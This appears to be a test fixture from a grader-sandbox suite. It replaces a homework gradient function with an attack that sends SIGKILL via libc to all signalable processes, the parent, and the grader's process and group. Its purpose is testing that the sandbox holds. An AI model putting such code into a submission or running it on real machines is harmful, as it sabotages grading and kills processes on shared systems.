"""Attack `libc_kill_everything`: the hw2_affine reference with ComputeGradients replaced by the attack.

libc kill(): SIGKILL to every process it may signal (-1), to its parent, to
the grader's pid and to process group 1. Never run without namespaces: as root
there, kill(-1) ends every process on the machine.

Graded by tests/integration/test_attacks.py, which fills in the @...@ placeholders.
"""
@HONEST@
@TOOLKIT@
def wrong_answer(L):
    """Right shapes, wrong values: what the attacked function returns when the attack fails."""
    import numpy as np

    return [(np.zeros(np.shape(W)), np.zeros((np.shape(W)[0], 1))) for W, _ in L]

GRADER_PID = int("@GRADER_PID@")


def ComputeGradients(L, x, z):
    if AS_ROOT:
        say("root on the real machine: not sending kill(-1)")
        return None
    for label, pid in (("kill(-1)", -1), ("kill(ppid)", os.getppid()), ("kill(grader)", GRADER_PID),
                       ("kill(-grader)", -GRADER_PID)):
        if pid in (0, 1):
            continue
        result = libc.kill(pid, 9)
        say(label, pid, "->", "sent" if result == 0 else errno_text())
    return None
